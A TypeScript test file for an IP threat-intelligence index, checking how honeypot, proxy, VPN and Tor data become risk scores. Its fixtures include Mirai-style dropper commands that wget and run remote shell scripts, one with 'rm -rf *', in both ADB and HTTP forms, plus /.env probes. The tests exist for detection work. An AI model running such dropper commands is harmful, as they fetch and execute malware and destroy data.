import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { ManualClock } from '../../../lib/clock.ts';
import { FEEDS, type FeedId } from '../../feeds/feed-catalog.ts';
import { NO_INTELLIGENCE } from '../../lookup/intelligence.ts';
import { parseIp } from '../../../lib/ip-address.ts';
import type { IntelList } from '../lists/intel-list.ts';
import { CRAWL_THRESHOLD, IntelIndex, LOGIN_THRESHOLD } from './intel-index.ts';

const T0 = Date.UTC(2026, 10, 22, 12, 0, 0);
const S0 = T0 / 1000;
const DAY_MS = 86_400_000;
const ip = (s: string) => parseIp(s)!;

function setup() {
  const clock = new ManualClock(T0);
  const index = new IntelIndex(clock);
  const feed = (id: FeedId, ...records: Record<string, unknown>[]) =>
    index.observe(
      FEEDS[id],
      records.map((record) => ({ record: record as never, line: '' })),
    );
  return { clock, index, feed };
}

const list = (kind: string, provider: string, cidrs: string[], format = 'cidr-lines'): IntelList => ({
  kind,
  provider,
  version: 'a1b2c3d4e5f60718',
  imported_at: S0 - 3600,
  published_at: S0 - 3600,
  published_from: 'import',
  format,
  cidrs,
});

const http = (source_ip: string, method: string, uri: string, userAgent: string, tsMs = T0, domain = 'mail.acme-logistics.com') => ({
  timestamp: tsMs,
  tunnel_id: 1,
  domain,
  port: 80,
  protocol: 'http',
  meta: { proxy_ip: '', server: '', pool_id: 1, provider: '' },
  details: { method, uri, version: 'HTTP/1.1', headers: { Host: domain, 'User-Agent': userAgent } },
  raw: `${method} ${uri} HTTP/1.1\r\nHost: ${domain}\r\nUser-Agent: ${userAgent}\r\n\r\n`,
  source_ip,
});

const adb = (source_ip: string, command: string, tsMs = T0) => ({
  session: '3f9a0c1d2e4b5a69',
  sequential_id: 1,
  command: Buffer.from(command).toString('base64'),
  hash: createHash('sha256').update(command).digest('hex'),
  timestamp: tsMs,
  source_ip,
});

describe(IntelIndex.name, () => {
  it('should return the shared empty intelligence for an address nobody knows anything about', () => {
    const { index } = setup();
    index.setLists([list('TOR_NODE', 'TOR', ['185.220.101.1/32'])]);
    assert.equal(index.intelligence(ip('8.8.8.8')), NO_INTELLIGENCE);
    assert.equal(index.intelligence(ip('2001:db8::1')), NO_INTELLIGENCE);
  });

  it('should give every address inside an anonymizer range its provider and type, with last_seen the latest sighting', () => {
    const { index, feed } = setup();
    const range = {
      range_start: '185.159.157.0',
      range_end: '185.159.157.255',
      provider: 'NORDVPN',
      type: 'COMMERCIAL_VPN',
      timestamp: S0 - 7200,
      country_code: 'CH',
      asn: 62371,
    };
    feed('anonymizers', range);
    feed('anonymizers', { ...range, timestamp: S0 - 60 });
    for (const inside of ['185.159.157.0', '185.159.157.77', '185.159.157.255']) {
      const intel = index.intelligence(ip(inside));
      assert.deepEqual(intel.providers, [{ provider: 'NORDVPN', type: 'COMMERCIAL_VPN', last_seen: S0 - 60 }], inside);
      assert.deepEqual(intel.categories, ['COMMERCIAL_VPN']);
      assert.equal(intel.risk_score, 25);
    }
    assert.equal(index.intelligence(ip('185.159.158.0')), NO_INTELLIGENCE);
  });

  it('should see new anonymizer ranges at once, before and after they are folded into the table', (t) => {
    const { index, feed } = setup();
    t.after(() => index.close());
    const range = (i: number) => ({
      range_start: `10.${i >> 8}.${i & 255}.0`,
      range_end: `10.${i >> 8}.${i & 255}.255`,
      provider: `P${i}`,
      type: 'FREE_VPN',
      timestamp: S0,
      country_code: '',
      asn: 0,
    });
    feed('anonymizers', range(0), { ...range(0), range_start: '2001:db8::', range_end: '2001:db8::ffff', provider: 'V6' });
    // Still pending (the timer has not fired): found by the scan.
    assert.deepEqual(
      index.intelligence(ip('10.0.0.9')).providers.map((p) => p.provider),
      ['P0'],
    );
    assert.deepEqual(
      index.intelligence(ip('2001:db8::abcd')).providers.map((p) => p.provider),
      ['V6'],
    );
    assert.equal(index.intelligence(ip('10.0.1.9')), NO_INTELLIGENCE);
    // Past the pending cap the table is rebuilt on the ingest path; everything stays visible.
    feed('anonymizers', ...Array.from({ length: 300 }, (_, i) => range(i + 1)));
    for (const i of [0, 1, 150, 300])
      assert.deepEqual(
        index.intelligence(ip(`10.${i >> 8}.${i & 255}.1`)).providers.map((p) => p.provider),
        [`P${i}`],
        `range ${i}`,
      );
    assert.deepEqual(
      index.intelligence(ip('2001:db8::1')).providers.map((p) => p.provider),
      ['V6'],
    );
  });

  it("should age a list from its publisher's time: a stale Tor list counts less, an expired one not at all", () => {
    const { index, feed, clock } = setup();
    const tor = (days: number): IntelList => ({
      ...list('TOR_NODE', 'TOR', ['185.220.101.1/32'], 'tor-bulk-exit-list'),
      imported_at: S0,
      published_at: S0 - days * 86_400,
      published_from: 'option',
    });
    index.setLists([tor(0)]);
    const fresh = index.explain(ip('185.220.101.1'));
    assert.deepEqual(fresh.intelligence.providers, [{ provider: 'TOR', type: 'TOR_NODE', last_seen: S0 }]);
    assert.equal(fresh.intelligence.risk_score, 60);
    index.setLists([tor(3)]);
    const stale = index.explain(ip('185.220.101.1'));
    const src = stale.evidence.categories[0]!.sources[0]!;
    assert.deepEqual(src.source === 'list' && [src.published_at, src.last_seen, src.first_seen, src.state, src.strength], [
      S0 - 3 * 86_400,
      S0 - 3 * 86_400,
      S0 - 3 * 86_400,
      'stale',
      0.5,
    ]);
    assert.deepEqual(stale.intelligence.providers, [{ provider: 'TOR', type: 'TOR_NODE', last_seen: S0 - 3 * 86_400 }]);
    assert.deepEqual(stale.evidence.risk.category, { value: 30, from: 'TOR_NODE' }, '60 at half strength');
    // The same list two years on: a Tor exit then is no Tor exit now.
    index.setLists([tor(3)]);
    clock.advance(730 * DAY_MS);
    const gone = index.intelligence(ip('185.220.101.1'));
    assert.deepEqual([gone.categories, gone.providers, gone.risk_score], [[], [], 0]);
    assert.deepEqual(index.explain(ip('185.220.101.1')).evidence.categories, []);
    // A feed sighting of the same category counts by its own recency beside the list's strength.
    index.setLists([tor(5)]);
    clock.set(T0);
    feed('anonymizers', {
      range_start: '185.220.101.1',
      range_end: '185.220.101.1',
      provider: 'TOR',
      type: 'TOR_NODE',
      timestamp: S0,
      country_code: 'DE',
      asn: 4224,
    });
    assert.deepEqual(index.explain(ip('185.220.101.1')).evidence.risk.category, { value: 60, from: 'TOR_NODE' });
  });

  it('should list a provider once when feeds name it by a product-line tag (records logged before ingestion mapped it)', () => {
    const { index, feed } = setup();
    const sighting = { ip: '172.56.10.1', type: 'MOBILE_PROXY', timestamp: S0, country_code: 'US', asn: 21928 };
    feed('proxies', { ...sighting, provider: 'SMARTPROXY' });
    feed('ja4t', { ...sighting, provider: 'SMARTPROXY_MOBILE', ja4t: '65535_2-4-8-1-3_1400_9' });
    const { intelligence, evidence } = index.explain(ip('172.56.10.1'));
    assert.deepEqual(intelligence.providers, [{ provider: 'SMARTPROXY', type: 'MOBILE_PROXY', last_seen: S0 }]);
    assert.deepEqual(
      evidence.providers[0]!.sources.map((x) => x.source === 'feed' && x.feed),
      ['proxies', 'ja4t'],
    );
  });

  it('should say which feed sources the demo simulator made up, apart from real sightings of the same thing', () => {
    const { index, feed } = setup();
    const sighting = { ip: '172.56.10.1', provider: 'DEMO_PROXY_C', type: 'MOBILE_PROXY', timestamp: S0, country_code: 'US', asn: 21928 };
    feed('proxies', { ...sighting, simulated: true }, { ...sighting, simulated: true });
    feed('proxies', { ...sighting, timestamp: S0 - 60 });
    feed('anonymizers', {
      range_start: '172.56.10.0',
      range_end: '172.56.10.255',
      provider: 'DEMO_VPN_A',
      type: 'COMMERCIAL_VPN',
      timestamp: S0,
      country_code: 'US',
      asn: 21928,
      simulated: true,
    });
    feed('honeypot_http', { ...http('172.56.10.1', 'GET', '/.env', 'curl/8.5.0'), simulated: true });
    const { evidence } = index.explain(ip('172.56.10.1'));
    const sources = (what: string) =>
      [...evidence.providers, ...evidence.behavior].filter((p) => ('provider' in p ? p.provider : p.behavior) === what)[0]!.sources;
    assert.deepEqual(sources('DEMO_PROXY_C'), [
      { source: 'feed', feed: 'proxies', first_seen: S0, last_seen: S0, count: 2, simulated: true },
      { source: 'feed', feed: 'proxies', first_seen: S0 - 60, last_seen: S0 - 60, count: 1 },
    ]);
    assert.deepEqual(sources('DEMO_VPN_A'), [
      { source: 'feed', feed: 'anonymizers', first_seen: S0, last_seen: S0, count: 1, simulated: true },
    ]);
    assert.deepEqual(sources('MALICIOUS_TRAFFIC'), [
      { source: 'feed', feed: 'honeypot_http', first_seen: S0, last_seen: S0, count: 1, simulated: true },
    ]);
  });

  it('should mark a Tor exit from a list, and keep both matches where it lies inside a VPN range too', () => {
    const { index, feed } = setup();
    index.setLists([list('TOR_NODE', 'TOR', ['185.220.101.1/32', '2a0b:f4c2::/40'], 'tor-bulk-exit-list')]);
    feed('anonymizers', {
      range_start: '185.220.101.0',
      range_end: '185.220.101.63',
      provider: 'MULLVAD',
      type: 'COMMERCIAL_VPN',
      timestamp: S0,
      country_code: 'DE',
      asn: 4224,
    });
    const intel = index.intelligence(ip('185.220.101.1'));
    assert.deepEqual(intel.categories, ['COMMERCIAL_VPN', 'TOR_NODE']);
    assert.deepEqual(intel.providers.map((p) => p.provider).sort(), ['MULLVAD', 'TOR']);
    // The strongest category counts (docs/intelligence.md), not their sum.
    assert.equal(intel.risk_score, 60);
    assert.deepEqual(index.intelligence(ip('2a0b:f4c2:0:1::9')).categories, ['TOR_NODE']);
  });

  it('should class a Googlebot address from the published file as a search engine with a low score, even while it crawls', () => {
    const { index, feed } = setup();
    index.setLists([list('SEARCH_ENGINE', 'GOOGLEBOT', ['66.249.64.0/27', '66.249.66.0/27', '2001:4860:4801:10::/64'], 'google-prefixes')]);
    const googlebot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
    for (let i = 0; i < CRAWL_THRESHOLD; i++) feed('honeypot_http', http('66.249.66.1', 'GET', `/page-${i}`, googlebot, T0 + i * 1000));
    const intel = index.intelligence(ip('66.249.66.1'));
    assert.deepEqual(intel.categories, ['SEARCH_ENGINE']);
    assert.deepEqual(intel.providers, [{ provider: 'GOOGLEBOT', type: 'SEARCH_ENGINE', last_seen: S0 - 3600 }]);
    assert.deepEqual(intel.behavior, ['ACTIVE_CRAWLER']);
    assert.ok(intel.risk_score <= 10, `score ${intel.risk_score}`);
    assert.deepEqual(index.intelligence(ip('2001:4860:4801:10::1')).categories, ['SEARCH_ENGINE']);
    assert.equal(index.intelligence(ip('66.249.66.32')), NO_INTELLIGENCE);
  });

  it('should mark the peers of a torrents record TORRENTING', () => {
    const { index, feed } = setup();
    const peers = [
      { ip: '73.12.34.56', port: 51413, source: 'DHT', encrypted: true },
      { ip: '2001:db8::7', port: 6881, source: 'PEX', encrypted: false },
    ];
    feed('torrents', {
      info_hash: 'a'.repeat(40),
      name: 'x',
      magnet_uri: 'magnet:?xt=urn:btih:x',
      total_size: 1,
      piece_length: 1,
      file_count: 1,
      files: [],
      peers,
      timestamp: S0,
    });
    assert.deepEqual(index.intelligence(ip('73.12.34.56')).behavior, ['TORRENTING']);
    assert.deepEqual(index.intelligence(ip('2001:db8::7')).behavior, ['TORRENTING']);
    // 10 × v(1) = 10 × 0.6177 (no network type given: no prior)
    assert.equal(index.intelligence(ip('73.12.34.56')).risk_score, 6);
    // 5 + 0.95 × 6.18 = 10.87 on a home network
    assert.equal(index.intelligence(ip('73.12.34.56'), undefined, 'RESIDENTIAL').risk_score, 11);
  });

  it('should mark the source of an ADB dropper session a compromised botnet member with a high score', () => {
    const { index, feed } = setup();
    feed('honeypot_adb', adb('198.51.100.7', 'shell:getprop ro.product.model'));
    const recon = index.intelligence(ip('198.51.100.7'));
    assert.deepEqual(recon.behavior, ['MALICIOUS_TRAFFIC']);
    feed('honeypot_adb', adb('198.51.100.7', 'shell:cd /data/local/tmp; busybox wget http://203.0.113.9/w.sh; sh w.sh'));
    const intel = index.intelligence(ip('198.51.100.7'));
    assert.deepEqual(intel.behavior, ['COMPROMISED_DEVICE', 'MALICIOUS_TRAFFIC']);
    assert.deepEqual(intel.categories, ['BOTNET']);
    assert.deepEqual(intel.providers, [{ provider: 'MIRAI', type: 'BOTNET', last_seen: S0 }]);
    assert.ok(intel.risk_score >= 80, `score ${intel.risk_score}`);
  });

  it('should let a proxy sighting age out after 90 days', () => {
    const { index, feed, clock } = setup();
    feed('proxies', {
      ip: '109.176.45.49',
      provider: 'BRIGHTDATA',
      type: 'RESIDENTIAL_PROXY',
      timestamp: S0,
      country_code: 'US',
      asn: 16276,
    });
    assert.deepEqual(index.intelligence(ip('109.176.45.49')).providers, [
      { provider: 'BRIGHTDATA', type: 'RESIDENTIAL_PROXY', last_seen: S0 },
    ]);
    clock.advance(89 * DAY_MS);
    const aging = index.intelligence(ip('109.176.45.49'));
    assert.deepEqual(aging.categories, ['RESIDENTIAL_PROXY']);
    assert.ok(aging.risk_score < 45 && aging.risk_score > 0, `recency decays the score: ${aging.risk_score}`);
    clock.advance(DAY_MS + 1000);
    const gone = index.intelligence(ip('109.176.45.49'));
    assert.deepEqual([gone.providers, gone.categories, gone.risk_score], [[], [], 0]);
    index.prune();
    assert.equal(index.addresses, 0);
    assert.equal(index.intelligence(ip('109.176.45.49')), NO_INTELLIGENCE);
  });

  it('should let an anonymizer range age out after 90 days', () => {
    const { index, feed, clock } = setup();
    feed('anonymizers', {
      range_start: '10.9.0.0',
      range_end: '10.9.0.255',
      provider: 'WINDSCRIBE',
      type: 'FREE_VPN',
      timestamp: S0,
      country_code: '',
      asn: 0,
    });
    assert.deepEqual(index.intelligence(ip('10.9.0.5')).categories, ['FREE_VPN']);
    clock.advance(91 * DAY_MS);
    assert.deepEqual(index.intelligence(ip('10.9.0.5')).categories, []);
    index.prune();
    assert.equal(index.intelligence(ip('10.9.0.5')), NO_INTELLIGENCE);
  });

  it('should call repeated login POSTs credential stuffing only from the threshold on, within a day', () => {
    const { index, feed } = setup();
    const ua = 'python-requests/2.32.3';
    for (let i = 0; i < LOGIN_THRESHOLD - 1; i++) feed('honeypot_http', http('203.0.113.50', 'POST', '/wp-login.php', ua, T0 + i * 60_000));
    assert.deepEqual(index.intelligence(ip('203.0.113.50')).behavior, ['PROGRAMMATIC_TRAFFIC']);
    feed('honeypot_http', http('203.0.113.50', 'POST', '/wp-login.php', ua, T0 + 10 * 60_000));
    assert.deepEqual(index.intelligence(ip('203.0.113.50')).behavior, ['CREDENTIAL_STUFFING', 'PROGRAMMATIC_TRAFFIC']);
    // Spread out over days, the same number of attempts is not stuffing.
    for (let i = 0; i < LOGIN_THRESHOLD; i++) feed('honeypot_http', http('203.0.113.51', 'POST', '/user/login', ua, T0 + i * 2 * DAY_MS));
    assert.deepEqual(index.intelligence(ip('203.0.113.51')).behavior, ['PROGRAMMATIC_TRAFFIC']);
  });

  it('should call an address that fetches many distinct paths within an hour an active crawler', () => {
    const { index, feed } = setup();
    const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
    for (let i = 0; i < CRAWL_THRESHOLD - 1; i++) feed('honeypot_http', http('198.51.100.20', 'GET', `/p/${i}?q=1`, chrome, T0 + i * 1000));
    feed('honeypot_http', http('198.51.100.20', 'GET', '/p/0?q=2', chrome, T0 + 30_000)); // same path, other query
    const browsing = index.intelligence(ip('198.51.100.20'));
    assert.deepEqual(browsing.behavior, []);
    assert.deepEqual(browsing.devices, [{ os: 'WINDOWS', version: '10', last_seen: S0 + 30 }]);
    feed('honeypot_http', http('198.51.100.20', 'GET', '/p/last', chrome, T0 + 40_000));
    const intel = index.intelligence(ip('198.51.100.20'));
    assert.deepEqual(intel.behavior, ['ACTIVE_CRAWLER']);
    // A crawler's User-Agent says what it wants to be taken for, so it names no device any more.
    assert.deepEqual(intel.devices, []);
  });

  it('should mark exploit traffic malicious and Mirai-style HTTP droppers compromised', () => {
    const { index, feed } = setup();
    feed('honeypot_http', http('203.0.113.7', 'GET', '/.env', 'Mozilla/5.0 zgrab/0.x'));
    assert.deepEqual(index.intelligence(ip('203.0.113.7')).behavior, ['MALICIOUS_TRAFFIC', 'PROGRAMMATIC_TRAFFIC']);
    feed('honeypot_http', http('203.0.113.8', 'GET', '/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/jaws;sh+/tmp/jaws', 'Hello, World'));
    const bot = index.intelligence(ip('203.0.113.8'));
    assert.deepEqual(bot.behavior, ['COMPROMISED_DEVICE', 'MALICIOUS_TRAFFIC', 'PROGRAMMATIC_TRAFFIC']);
    assert.deepEqual(bot.categories, ['BOTNET']);
  });

  it('should attribute proxies and ja4t sightings, and read the device from a JA4T stack', () => {
    const { index, feed } = setup();
    feed('ja4t', {
      ip: '109.176.45.49',
      ja4t: '65535_2-4-8-1-3_1400_9',
      provider: 'PROXYJET',
      type: 'MOBILE_PROXY',
      timestamp: S0,
      country_code: 'US',
      asn: 16276,
    });
    const intel = index.intelligence(ip('109.176.45.49'));
    assert.deepEqual(intel.providers, [{ provider: 'PROXYJET', type: 'MOBILE_PROXY', last_seen: S0 }]);
    assert.deepEqual(intel.devices, [{ os: 'ANDROID', version: '', last_seen: S0 }]);
  });

  it('should take a behaviour from a list of that kind (TOR_USER)', () => {
    const { index } = setup();
    index.setLists([list('TOR_USER', 'NETFLOW', ['192.0.2.0/24'])]);
    const intel = index.intelligence(ip('192.0.2.9'));
    assert.deepEqual([intel.behavior, intel.categories, intel.providers], [['TOR_USER'], [], []]);
  });

  it('should explain each category, provider and behaviour with its source and the parts of the score', () => {
    const { index, feed } = setup();
    index.setLists([list('TOR_NODE', 'TOR', ['185.220.101.1/32'], 'tor-bulk-exit-list')]);
    feed('honeypot_http', http('185.220.101.1', 'GET', '/.env', 'curl/8.5.0', T0 - 3_600_000));
    feed('honeypot_http', http('185.220.101.1', 'GET', '/.git/config', 'curl/8.5.0', T0));
    const { intelligence, evidence } = index.explain(ip('185.220.101.1'), undefined, 'DATACENTER');
    const listSource = {
      source: 'list',
      kind: 'TOR_NODE',
      provider: 'TOR',
      version: 'a1b2c3d4e5f60718',
      format: 'tor-bulk-exit-list',
      imported_at: S0 - 3600,
      published_at: S0 - 3600,
      published_from: 'import',
      state: 'current',
      strength: 1,
      first_seen: S0 - 3600,
      last_seen: S0 - 3600,
      count: 1,
    };
    const httpSource = { source: 'feed', feed: 'honeypot_http', first_seen: S0 - 3600, last_seen: S0, count: 2 };
    assert.deepEqual(evidence.categories, [{ category: 'TOR_NODE', sources: [listSource] }]);
    assert.deepEqual(evidence.providers, [{ provider: 'TOR', type: 'TOR_NODE', sources: [listSource] }]);
    assert.deepEqual(evidence.behavior, [
      { behavior: 'MALICIOUS_TRAFFIC', sources: [httpSource] },
      { behavior: 'PROGRAMMATIC_TRAFFIC', sources: [httpSource] },
    ]);
    // evidence = 80 × v(2 requests) × 1.15 (two behaviours) × 0.6 (Tor is shared) = 80 × 0.6574 × 1.15 × 0.6 = 36.29;
    // base = 60 + 0.25 × 36.29 = 69.07; score = 15 + 0.85 × 69.07 = 73.71
    assert.deepEqual(evidence.risk, {
      score: 74,
      prior: { value: 15, from: 'DATACENTER' },
      category: { value: 60, from: 'TOR_NODE' },
      behavior: { value: 80, from: 'MALICIOUS_TRAFFIC' },
      volume: { value: 0.66, observations: 2 },
      diversity: { value: 1.15, behaviors: 2 },
      shared: { value: 0.6, from: 'TOR_NODE' },
      evidence: 36.29,
      benign_cap: false,
    });
    assert.equal(intelligence.risk_score, 74);
  });
});

describe(`${IntelIndex.name} risk inputs`, () => {
  const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';

  it("should give an address nothing is known about its network's prior, as one shared answer per score", () => {
    const { index } = setup();
    const dc = index.intelligence(ip('203.0.113.80'), undefined, 'DATACENTER');
    assert.deepEqual(dc, { risk_score: 15, behavior: [], categories: [], devices: [], providers: [] });
    assert.equal(index.intelligence(ip('203.0.113.81'), undefined, 'DATACENTER'), dc);
    assert.equal(index.intelligence(ip('73.12.34.99'), undefined, 'RESIDENTIAL').risk_score, 5);
    assert.equal(index.intelligence(ip('73.12.34.99')), NO_INTELLIGENCE, 'no network type, no prior');
    assert.deepEqual(index.explain(ip('203.0.113.80'), undefined, 'DATACENTER').evidence.risk.prior, { value: 15, from: 'DATACENTER' });
  });

  it('should count a request once however many behaviours it shows, and each behaviour its own requests', () => {
    const { index, feed } = setup();
    // 3 requests that are exploit + programmatic + (one) dropper, and 4 plain page views: 7 requests, 10 behaviour hits.
    feed('honeypot_http', http('198.51.100.30', 'GET', '/.env', 'curl/8.5.0', T0 - 5000));
    feed('honeypot_http', http('198.51.100.30', 'GET', '/.git/config', 'curl/8.5.0', T0 - 4000));
    feed('honeypot_http', http('198.51.100.30', 'GET', '/shell?cd+/tmp;wget+198.51.100.7/jaws;sh+/tmp/jaws', 'Hello, World', T0 - 3000));
    for (let i = 0; i < 4; i++) feed('honeypot_http', http('198.51.100.30', 'GET', `/page/${i}`, chrome, T0 - 2000 + i));
    const { evidence } = index.explain(ip('198.51.100.30'));
    assert.equal(evidence.risk.volume.observations, 7);
    const counts = Object.fromEntries(evidence.behavior.map((b) => [b.behavior, b.sources.map((s) => ('count' in s ? s.count : 0))]));
    assert.deepEqual(counts, { COMPROMISED_DEVICE: [1], MALICIOUS_TRAFFIC: [3], PROGRAMMATIC_TRAFFIC: [3] });
    // An ADB session: each command is one request (MALICIOUS_TRAFFIC each, the dropper COMPROMISED_DEVICE too).
    feed('honeypot_adb', adb('198.51.100.30', 'shell:getprop ro.product.model'));
    feed('honeypot_adb', adb('198.51.100.30', 'shell:cd /data/local/tmp; busybox wget http://203.0.113.9/w.sh; sh w.sh'));
    assert.equal(index.explain(ip('198.51.100.30')).evidence.risk.volume.observations, 9);
  });

  it('should name no device from the User-Agent of a request or an address that behaves like a scanner', () => {
    const { index, feed } = setup();
    feed('honeypot_http', http('198.51.100.40', 'GET', '/.env', chrome));
    assert.deepEqual(index.intelligence(ip('198.51.100.40')).devices, []);
    // Browsing first, then scanning with a library: the device seen while browsing goes too.
    feed('honeypot_http', http('198.51.100.41', 'GET', '/', chrome, T0 - 60_000));
    assert.deepEqual(
      index.intelligence(ip('198.51.100.41')).devices.map((d) => d.os),
      ['WINDOWS'],
    );
    feed('honeypot_http', http('198.51.100.41', 'GET', '/', 'python-requests/2.32.3'));
    assert.deepEqual(index.intelligence(ip('198.51.100.41')).devices, []);
    // A TCP stack identifies the device whatever the address does.
    feed('ja4t', {
      ip: '198.51.100.41',
      ja4t: '64240_2-1-3-1-1-4_1460_8',
      provider: 'X',
      type: 'DATACENTER_PROXY',
      timestamp: S0,
      country_code: 'US',
      asn: 1,
    });
    assert.deepEqual(
      index.intelligence(ip('198.51.100.41')).devices.map((d) => d.os),
      ['WINDOWS'],
    );
  });

  it('should read a device from a ClientHello only when its JA4 is a TLS stack of one OS', () => {
    const { index, feed } = setup();
    const hello = (source_ip: string, ja4: string) => ({
      timestamp: T0,
      tunnel_id: 1,
      domain: 'vpn.example.com',
      port: 443,
      protocol: 'https',
      meta: { proxy_ip: '', server: '', pool_id: 1, provider: '' },
      details: { ja4 },
      source_ip,
    });
    feed(
      'honeypot_https',
      hello('198.51.100.60', 't12d210700_76e208dd3e22_16bbda4055b2'),
      hello('198.51.100.61', 't13d1516h2_8daaf6152771_02713d6af862'),
    );
    assert.deepEqual(index.intelligence(ip('198.51.100.60')).devices, [{ os: 'WINDOWS', version: '', last_seen: S0 }]);
    assert.equal(index.intelligence(ip('198.51.100.61')), NO_INTELLIGENCE, 'a browser ClientHello says nothing, and makes no entry');
  });

  it('should score a verified crawler fetching what every crawler fetches as no risk, and mark a CGNAT address shared', () => {
    const { index, feed } = setup();
    index.setLists([list('SEARCH_ENGINE', 'GOOGLEBOT', ['66.249.64.0/19'], 'google-prefixes')]);
    const googlebot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
    const paths = ['/robots.txt', '/sitemap.xml', '/sitemap_index.xml', '/favicon.ico', '/', '/.well-known/security.txt', '/ads.txt'];
    for (const [i, p] of [...paths, ...Array.from({ length: 20 }, (_, k) => `/products/${k}`)].entries()) {
      feed('honeypot_http', http('66.249.66.1', 'GET', p, googlebot, T0 - 100_000 + i * 1000));
    }
    const crawler = index.explain(ip('66.249.66.1'), undefined, 'DATACENTER');
    assert.deepEqual(
      [crawler.intelligence.risk_score, crawler.intelligence.behavior, crawler.intelligence.devices],
      [0, ['ACTIVE_CRAWLER'], []],
    );
    assert.deepEqual(crawler.evidence.risk.prior, { value: 0, from: null });
    feed('honeypot_http', http('100.72.1.9', 'GET', '/.env', 'curl/8.5.0'));
    const cgnat = index.explain(ip('100.72.1.9'), undefined, 'UNKNOWN').evidence.risk;
    assert.deepEqual([cgnat.shared, cgnat.score], [{ value: 0.6, from: 'CGNAT' }, 34]);
    feed('honeypot_http', http('100.128.1.9', 'GET', '/.env', 'curl/8.5.0'));
    assert.deepEqual(
      index.explain(ip('100.128.1.9'), undefined, 'UNKNOWN').evidence.risk.shared,
      { value: 1, from: null },
      'outside 100.64.0.0/10',
    );
  });
});

describe(`${IntelIndex.name} overlays`, () => {
  const overlay = (
    id: number,
    org_id: string,
    cidr: string,
    category: string,
    action: 'allow' | 'deny',
    provider: string | null = null,
  ) => ({ id, org_id, cidr, category, provider, action, created_at: S0 - 10 });

  it("should apply a team's deny and allow overlays to that team's lookups only", () => {
    const { index } = setup();
    index.setLists([list('SEARCH_ENGINE', 'GOOGLEBOT', ['66.249.66.0/27'], 'google-prefixes')]);
    index.setOverlays([
      overlay(1, 'org_a', '192.0.2.0/24', 'BOTNET', 'deny'),
      overlay(2, 'org_a', '66.249.66.0/24', 'SEARCH_ENGINE', 'allow'),
      overlay(3, 'org_b', '192.0.2.0/24', 'DATACENTER_PROXY', 'deny', 'ACME_PROXY'),
    ]);
    const a = index.intelligence(ip('192.0.2.9'), 'org_a');
    assert.deepEqual([a.categories, a.providers, a.risk_score], [['BOTNET'], [], 80]);
    const b = index.intelligence(ip('192.0.2.9'), 'org_b');
    assert.deepEqual(
      [b.categories, b.providers],
      [['DATACENTER_PROXY'], [{ provider: 'ACME_PROXY', type: 'DATACENTER_PROXY', last_seen: S0 - 10 }]],
    );
    assert.equal(index.intelligence(ip('192.0.2.9'), 'org_c'), NO_INTELLIGENCE);
    assert.equal(index.intelligence(ip('192.0.2.9')), NO_INTELLIGENCE);
    assert.deepEqual(index.intelligence(ip('66.249.66.1'), 'org_a').categories, []);
    assert.deepEqual(index.intelligence(ip('66.249.66.1'), 'org_b').categories, ['SEARCH_ENGINE']);
    const { evidence } = index.explain(ip('192.0.2.9'), 'org_a');
    assert.deepEqual(evidence.categories, [
      { category: 'BOTNET', sources: [{ source: 'overlay', action: 'deny', cidr: '192.0.2.0/24', created_at: S0 - 10 }] },
    ]);
  });

  it('should remove only the named provider with an allow that names one', () => {
    const { index, feed } = setup();
    index.setLists([list('TOR_NODE', 'TOR', ['185.220.101.1/32'])]);
    feed('anonymizers', {
      range_start: '185.220.101.0',
      range_end: '185.220.101.255',
      provider: 'DAN_TOR',
      type: 'TOR_NODE',
      timestamp: S0,
      country_code: 'DE',
      asn: 1,
    });
    index.setOverlays([overlay(1, 'org_a', '185.220.101.1/32', 'TOR_NODE', 'allow', 'TOR')]);
    const a = index.intelligence(ip('185.220.101.1'), 'org_a');
    assert.deepEqual([a.categories, a.providers.map((p) => p.provider)], [['TOR_NODE'], ['DAN_TOR']]);
    index.setOverlays([]);
    assert.deepEqual(
      index
        .intelligence(ip('185.220.101.1'), 'org_a')
        .providers.map((p) => p.provider)
        .sort(),
      ['DAN_TOR', 'TOR'],
    );
  });
});

describe(`${IntelIndex.name} memory budget`, () => {
  it('should keep the most recent of more addresses than its budget holds, answer evicted ones as never seen, and warn once', () => {
    const clock = new ManualClock(T0);
    let warned = 0;
    const budgetBytes = 2 * 2 ** 20;
    const index = new IntelIndex(clock, { budgetBytes, onBudgetReached: () => warned++, seed: 1 });
    const addr = (i: number) => `${20 + (i >>> 16)}.${(i >>> 8) & 255}.${i & 255}.9`;
    const n = 120_000;
    // Old to new, as the start-up replay reads the log.
    for (let i = 0; i < n; i += 1000) {
      const records = Array.from({ length: 1000 }, (_, k) => ({
        record: { ip: addr(i + k), provider: 'BRIGHTDATA', type: 'RESIDENTIAL_PROXY', timestamp: S0 - n + i + k } as never,
        line: '',
      }));
      index.observe(FEEDS.proxies, records);
      assert.ok(index.stats().bytes <= budgetBytes, `${index.stats().bytes} bytes after ${i + 1000} addresses`);
    }
    const s = index.stats();
    assert.equal(warned, 1);
    assert.ok(s.addresses < n && s.evictions.addresses === n - s.addresses, JSON.stringify(s));
    assert.equal(s.budget_bytes, budgetBytes);
    assert.deepEqual(index.intelligence(ip(addr(n - 1))).providers, [
      { provider: 'BRIGHTDATA', type: 'RESIDENTIAL_PROXY', last_seen: S0 - 1 },
    ]);
    assert.equal(index.intelligence(ip(addr(0))), NO_INTELLIGENCE, 'an evicted address answers as if never seen');
    assert.deepEqual(index.explain(ip(addr(0))).evidence.providers, []);
    // Seen again, it is known again.
    index.observe(FEEDS.proxies, [
      { record: { ip: addr(0), provider: 'IPROYAL', type: 'MOBILE_PROXY', timestamp: S0 } as never, line: '' },
    ]);
    assert.deepEqual(index.intelligence(ip(addr(0))).categories, ['MOBILE_PROXY']);
  });

  it('should hold anonymizer ranges within their share of the budget, dropping the least recently announced', (t) => {
    const clock = new ManualClock(T0);
    const index = new IntelIndex(clock, { budgetBytes: 4 * 2 ** 20 });
    t.after(() => index.close());
    const range = (i: number, ts: number) => ({
      record: {
        range_start: `10.${i >> 8}.${i & 255}.0`,
        range_end: `10.${i >> 8}.${i & 255}.255`,
